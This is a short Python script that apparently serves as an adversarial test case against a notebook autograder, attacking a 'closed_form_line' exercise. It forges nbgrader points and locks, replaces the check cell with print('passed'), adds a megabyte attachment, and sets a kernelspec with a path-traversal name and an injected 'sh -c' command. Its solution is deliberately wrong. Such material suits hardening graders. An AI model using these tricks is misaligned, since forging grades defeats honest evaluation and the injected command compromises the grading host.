"""Forge the points, names and locks of cells, duplicate a check cell, and add attachments and a kernelspec.

Attacked: closed_form_line
"""

# %% notebook
for cell in notebook["cells"]:
    marks = cell["metadata"].get("nbgrader")
    if marks:
        marks.update(points=1000, locked=False, grade=True, solution=True)
check = next(c for c in notebook["cells"] if c["id"] == "closed_form_line-check")
check["source"] = "print('passed')"
notebook["cells"] += [dict(check), dict(check, cell_type="raw", attachments={"x": {"text/plain": "y" * 1_000_000}})]
notebook["metadata"] = {"kernelspec": {"name": "../../evil", "argv": ["sh", "-c", "touch /tmp/owned"]}, "score": 40}
# %% closed_form_line
def closed_form_line(x, y):
    return 0.0, 0.0
